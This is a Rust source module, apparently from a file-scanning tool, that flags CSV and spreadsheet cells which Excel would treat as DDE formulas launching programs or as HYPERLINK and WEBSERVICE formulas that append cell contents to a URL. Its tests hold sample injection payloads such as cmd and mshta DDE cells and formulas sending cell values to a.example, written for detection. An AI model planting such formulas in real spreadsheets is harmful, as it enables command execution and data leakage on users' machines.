//! Tables of text (`.csv`, `.tsv`, and texts that bear the name of a workbook): cells that Excel takes for formulas
//! which start programs by DDE, or add what other cells hold to an address.
//!
//! Left out: every other formula. Office tables are full of values that begin with a minus sign.

use super::outward;
use crate::artifact::{Artifact, Fact, Format, Opened};
use crate::keyring::Keyring;
use crate::kind::extension;
use crate::limits::{Budget, Stop};
use crate::text::guess;

/// Tables of text.
pub struct Table;

/// The extensions that have Excel open a text as a table.
const OPENED: &[&str] =
    &["csv", "tsv", "xls", "xlsx", "xlsm", "xlsb", "xlt", "xla", "dif", "prn", "slk", "xlw"];
/// Links of one table that are noted.
const MOST_LINKS: usize = 20;
/// Formulas of one line that are read.
const MOST_FORMULAS: usize = 100;

impl Format for Table {
    fn id(&self) -> &'static str {
        "table"
    }

    fn matches(&self, artifact: &Artifact) -> bool {
        let is_opened = OPENED.contains(&extension(&artifact.name).as_str());
        artifact.kind.id == "csv" || artifact.kind.id == "text" && is_opened
    }

    fn open(
        &self,
        artifact: &Artifact,
        _keys: &Keyring,
        out: &mut Opened,
        budget: &mut Budget,
    ) -> Result<(), Stop> {
        if memchr::memchr2(b'|', b'(', &artifact.bytes).is_none() {
            return Ok(());
        }
        let text = guess(&artifact.bytes);
        budget.tick()?;
        let links =
            text.lines().filter(|line| line.contains('|')).flat_map(|line| line.split([',', ';', '\t']));
        let calls = text.lines().filter(|line| line.contains('(')).flat_map(calls);
        for fact in links.filter_map(cell).chain(calls).take(MOST_LINKS) {
            if !out.facts.contains(&fact) {
                out.facts.push(fact);
            }
        }
        Ok(())
    }
}

/// What calls in the formulas of a line reach. Separators stand within formulas too, so that each is read to the end of
/// the line.
fn calls(line: &str) -> Vec<Fact> {
    let after = line.match_indices([',', ';', '\t']).map(|(at, _)| at + 1);
    let rests = std::iter::once(0).chain(after).filter_map(|at| line.get(at..));
    let formulas = rests.filter_map(|rest| {
        rest.trim_start_matches(['"', ' ', '\u{feff}']).strip_prefix(['=', '+', '-', '@'])
    });
    let named = formulas.filter(|formula| formula.starts_with(|c: char| c.is_ascii_alphabetic()));
    let facts = named.take(MOST_FORMULAS).flat_map(outward::quoted_facts);
    facts.filter(|fact| !matches!(fact, Fact::External { relation, .. } if relation == "dde")).collect()
}

/// The link in a cell that Excel takes for a formula.
fn cell(cell: &str) -> Option<Fact> {
    let cell = cell.trim_matches(['"', ' ', '\u{feff}']);
    link(cell.strip_prefix(['=', '+', '-', '@'])?)
}

/// The link to a program in a formula: `program|'topic'!item`, wherever in it.
pub(super) fn link(formula: &str) -> Option<Fact> {
    for (at, _) in formula.match_indices('|') {
        let (before, after) = formula.split_at_checked(at)?;
        let is_part = |c: char| c.is_alphanumeric() || "_.\\:-".contains(c);
        let begin = before.trim_end_matches(['\'', ' ']).rfind(|c: char| !is_part(c)).map_or(0, |at| at + 1);
        let program = before.get(begin..).unwrap_or_default().trim_matches(['\'', ' ']);
        let topic = after.get(1..).unwrap_or_default().trim_start();
        let has_item = topic.contains('!') || topic.starts_with('\'');
        if !program.is_empty() && !topic.is_empty() && has_item {
            let topic: String = topic.chars().take(400).collect();
            return Some(Fact::External { relation: "dde".into(), target: format!("{program}|{topic}") });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::artifact::{Child, Tree};
    use crate::limits::Limits;

    fn links(name: &str, text: &str) -> Vec<String> {
        let tree = Tree::new(Child::new(name, "file", text.as_bytes().to_vec()));
        let (artifact, mut out) = (tree.get(0).unwrap(), Opened::default());
        if Table.matches(artifact) {
            Table.open(artifact, &Keyring::new(), &mut out, &mut Budget::new(&Limits::default())).unwrap();
        }
        let targets = out.facts.into_iter().filter_map(|fact| match fact {
            Fact::External { target, .. } => Some(target),
            _ => None,
        });
        targets.collect()
    }

    #[test]
    fn addresses_with_cells_are_told() {
        assert_eq!(
            links(
                "a.csv",
                "Name,Total\nx,\"=HYPERLINK(\"\"http://a.example/?x=\"\"&A1&\"\",\"\"&B2,\"\"Details\"\")\"\n"
            ),
            ["http://a.example/?x=, (HYPERLINK)"]
        );
        assert_eq!(
            links("a.csv", "=WEBSERVICE(\"http://a.example/\"&A1)\n"),
            ["http://a.example/ (WEBSERVICE)"]
        );
        assert_eq!(links("a.csv", "=HYPERLINK(\"https://www.a.example/\",\"Our site\"),-5\n"), [""; 0]);
        assert_eq!(links("a.csv", "see HYPERLINK(\"http://a.example/\"&A1)\n"), [""; 0]);
    }

    #[test]
    fn cells_that_start_programs() {
        for cell in [
            "=cmd|'/c calc'!A0",
            "\"=cmd|'/c calc'!A0\"",
            "@SUM(1+1)*cmd|'/c calc'!A0",
            "+1+cmd |'/c calc'!A0",
            "-2+3+cmd|'/c calc'!A0",
            "=1+'cmd'|'/c calc'!A0",
        ] {
            let found = links("a.csv", &format!("id,{cell}\n"));
            assert_eq!(found.len(), 1, "{cell}");
            assert!(found[0].starts_with("cmd|'/c calc'"), "{found:?}");
        }
        assert_eq!(links("invoice.xls", "a\t=mshta|'x'!A\n"), ["mshta|'x'!A"]);
        assert_eq!(links("a.csv", "=C:\\x\\cmd.exe|'/c x'!A"), ["C:\\x\\cmd.exe|'/c x'!A"]);
    }

    #[test]
    fn everyday_tables_have_none() {
        for text in
            ["-5,+81 3 1234,=SUM(A1:A2)\n", "a|b|c\n", "-,|,x|y!\n", "=A1&\"|\"\n", "cmd|'/c calc'!A0\n"]
        {
            assert_eq!(links("a.csv", text), Vec::<String>::new(), "{text}");
        }
        assert_eq!(links("a.txt", "=cmd|'/c calc'!A0\n"), Vec::<String>::new());
        assert_eq!(links("a.csv", &"=cmd|'/c 1'!A0,=cmd|'/c 2'!A0\n".repeat(500)).len(), 2);
    }
}
